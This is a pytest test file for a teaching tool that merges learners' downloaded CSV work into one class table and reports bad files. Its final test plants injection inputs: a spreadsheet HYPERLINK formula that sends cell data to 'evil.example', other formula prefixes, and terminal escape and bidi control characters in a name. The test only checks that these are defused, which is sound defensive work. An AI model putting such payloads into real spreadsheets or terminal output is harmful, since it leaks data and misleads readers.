"""A teacher's folder of downloads, good and bad, becomes one class table."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from alsteach.__main__ import main
from alsteach.data.checks import TrialDataError
from alsteach.exercises.collecting import collect, most_missed, report, write_class
from alsteach.exercises.downloads import COLUMNS, csv_text
from alsteach.exercises.progress import Progress

ROOT = Path(__file__).parents[2]


@pytest.fixture
def folder(tmp_path):
    (tmp_path / "in").mkdir()
    return tmp_path / "in"


@pytest.fixture
def work(tmp_path, sample):
    """A learner's table as downloaded: the choice answered with each letter in turn, the number with each text."""
    copies = iter(range(100))

    def make(name="", choices="", numbers=()):
        progress = Progress(tmp_path / f"copy{next(copies)}.json")
        for letter in choices:
            progress.record("05-choice-1", letter, letter == "B")
        for answer in numbers:
            progress.record("05-number-1", answer, answer == "0.84")
        return "\ufeff" + csv_text(sample, progress, name)

    return make


def put(folder, name, text, encoding="utf-8"):
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(text if isinstance(text, bytes) else text.encode(encoding))


def test_a_class_of_three(folder, work):
    put(folder, "ana.csv", work("Ana", "AB", ["0.84"]))
    put(folder, "bo/work.csv", work("Bo", "A"))
    put(folder, "nobody.csv", work("", "CAB", ["-0.84", "0.84"]))
    works, remarks = collect(folder)
    assert remarks == []
    assert [w.name for w in works] == ["", "Ana", "Bo"]
    missed = most_missed(works)
    assert missed[0] == {
        "item": "05-choice-1",
        "misconceptions": "M5",
        "answered": 3,
        "missed": 3,
        "common_wrong": "A (2×)",
    }
    assert (missed[1]["item"], missed[1]["answered"], missed[1]["missed"]) == ("05-number-1", 2, 1)
    assert missed[1]["common_wrong"] == "-0.84 (1×)"
    assert len(missed) == 2, "what nobody answered was missed by nobody"
    text = report(works, remarks)
    assert text.startswith("3 learners\n")
    lines = [line.split() for line in text.splitlines()]
    assert ["Ana", works[1].copy, "2", "1", "2"] in lines
    assert ["Bo", works[2].copy, "1", "0", "0"] in lines
    assert ["05-choice-1", "M5", "3", "of", "3", "A", "(2×)"] in lines


def test_bad_files_get_a_sentence_each_and_stop_nothing(folder, work):
    good = work("Ana", "B")
    lines = good.splitlines()
    bad = {
        "empty.csv": ("", "it has no column 'name'"),
        "header.csv": (lines[0] + "\n", "it has no rows"),
        "other.csv": ("a,b\n1,2\n", "it has no column 'name': it is not “My work as a table”"),
        "binary.csv": (bytes(range(256)), "it is not UTF-8 text"),
        "zip.csv": (b"PK\x03\x04\0\0\0", "characters that no table has"),
        "utf16.csv": (good.encode("utf-16"), "not UTF-8 text"),
        "cut.csv": (good[:-8], "is cut off"),
        "marks.csv": (good.replace(",1,B,1,B,1,", ",1,B,7,B,1,"), "marks that are neither 0 nor 1"),
        "twice.csv": (good + lines[1] + "\r\n", "it has 05-choice-1 twice"),
        "two.csv": (good.replace("Ana", "Bo", 1), "more than one learner's work"),
        "big.csv": ("x" * 6_000_000, "too large (6 MB)"),
    }
    put(folder, "good.csv", good)
    for name, (content, _) in bad.items():
        assert content != good, name
        put(folder, name, content)
    (folder / "notes.txt").write_text("not a table")
    (folder / "folder.csv").mkdir()
    works, remarks = collect(folder)
    assert [w.file for w in works] == ["good.csv"]
    assert len(remarks) == len(bad)
    for name, (_, words) in bad.items():
        said = next(r for r in remarks if r.startswith(f"{name} is left out: "))
        assert words in said
    assert all(remark in report(works, remarks) for remark in remarks)


def test_a_later_download_replaces_an_earlier_one(folder, tmp_path, sample):
    progress = Progress(tmp_path / "copy.json")
    progress.record("05-choice-1", "A", False)
    put(folder, "z_first.csv", csv_text(sample, progress, "Ana"))
    progress.record("05-choice-1", "B", True)
    put(folder, "a_second.csv", csv_text(sample, progress, "Ana"))
    works, remarks = collect(folder)
    assert [w.file for w in works] == ["a_second.csv"]
    assert remarks == ["z_first.csv is left out: a_second.csv is a later download of the same work."]


def test_one_name_from_two_copies_is_kept_twice_and_said(folder, work):
    put(folder, "1.csv", work("Ana", "A"))
    put(folder, "2.csv", work("Ana", "B"))
    works, remarks = collect(folder)
    assert len(works) == 2
    assert remarks == ["Ana comes from 2 course copies: two computers, or two learners of one name?"]


def test_a_table_saved_anew_by_a_spreadsheet(folder, work):
    rows = list(csv.reader(work("Ana", "AB")[1:].splitlines()))
    put(folder, "semicolons.csv", "\n".join(";".join(row) for row in rows) + "\n")
    works, remarks = collect(folder)
    assert remarks == []
    assert works[0].rows["05-choice-1"]["first_answer"] == "A"


def test_the_class_table_is_written_where_asked_and_holds_no_formula(folder, work):
    put(folder, "1.csv", work("=HYPERLINK(1)", "AB", ["0.84"]))
    put(folder, "2.csv", work("Bo", "B"))
    works, _ = collect(folder)
    write_class(works, folder / "class.csv")
    with (folder / "class.csv").open(encoding="utf-8-sig", newline="") as file:
        table = list(csv.DictReader(file))
    assert [row["name"] for row in table] == ["'=HYPERLINK(1)", "Bo"]
    assert [row["answered"] for row in table] == ["2", "1"]
    assert [row["05-choice-1"] for row in table] == ["0", "1"]
    assert [row["05-number-1"] for row in table] == ["1", ""]
    again, remarks = collect(folder)
    assert len(again) == 2
    assert remarks == [], "its own class table is no learner's"


def test_an_older_table_with_fewer_items_and_a_newer_one_with_more_columns(folder, work):
    rows = list(csv.reader(work("Ana", "A")[1:].splitlines()))
    put(folder, "older.csv", "\n".join(",".join(row) for row in rows[:2]) + "\n")
    put(
        folder,
        "newer.csv",
        work("Bo", "B").replace("last_at\r\n", "last_at,mood\r\n").replace("Z\r\n", "Z,good\r\n"),
    )
    works, remarks = collect(folder)
    assert remarks == []
    assert [len(w.rows) for w in works] == [1, 3]


@pytest.mark.parametrize("where", ["nowhere", "."])
def test_no_folder_or_no_tables(tmp_path, where, capsys):
    assert main(["collect", str(tmp_path / where)]) == 1
    said = capsys.readouterr()
    assert said.out == ""
    assert "There is no folder" in said.err or "There is no CSV file" in said.err


def test_only_bad_files(folder, capsys):
    put(folder, "bad.csv", "a,b\n")
    assert main(["collect", str(folder), "--out", str(folder / "class.csv")]) == 1
    said = capsys.readouterr().out
    assert "No learner's table could be read." in said
    assert "bad.csv is left out" in said
    assert not (folder / "class.csv").exists()


def test_a_place_that_cannot_be_written(folder, work, capsys):
    put(folder, "1.csv", work("Ana", "A"))
    assert main(["collect", str(folder), "--out", str(folder / "no" / "class.csv")]) == 1
    assert "cannot be written" in capsys.readouterr().err
    with pytest.raises(TrialDataError, match="cannot be written"):
        write_class(collect(folder)[0], folder)


def test_as_typed_by_a_teacher(folder, work):
    put(folder, "1.csv", work("Ana", "AB"))
    command = [sys.executable, "-m", "alsteach", "collect", str(folder), "--out", str(folder / "class.csv")]
    done = subprocess.run(
        command, cwd=ROOT, capture_output=True, text=True, env={"PYTHONIOENCODING": "ascii"}
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("1 learner\n")
    assert "A (1?)" in done.stdout, "a terminal without the letter shows a question mark"
    assert (folder / "class.csv").exists()
    assert list(folder.iterdir()) != []


def test_columns_are_documented():
    assert all(meaning for meaning in COLUMNS.values())
    assert len(COLUMNS) == 15


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_formula_and_no_control_character_reaches_the_teacher(folder, work, separator, tmp_path):
    text = work("Eve\x1b[2J\x1b]0;pwn\x07\u202e", "B")
    rows = list(csv.reader(text.lstrip("\ufeff").splitlines()))
    place = rows[0].index("item")
    for row, item in zip(
        rows[1:], ['=HYPERLINK("http://evil.example/"&A2,"click")', "+2+3", "x;=1+1"], strict=True
    ):
        row[place] = item
    with (folder / "eve.csv").open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file, delimiter=separator).writerows(rows)
    works, remarks = collect(folder)
    assert works[0].name == "Eve[2J]0;pwn"
    assert not set(report(works, ["\x1b[2Jevil.csv is left out"])) & set("\x1b\x07\u202e")
    write_class(works, tmp_path / "class.csv")
    table = (tmp_path / "class.csv").read_text(encoding="utf-8-sig")
    for mark in ",;":  # a spreadsheet of this country or of another
        cells = [cell for row in csv.reader(table.splitlines(), delimiter=mark) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not [cell for cell in cells if cell.strip('" ')[:1] in tuple("=+-@")]
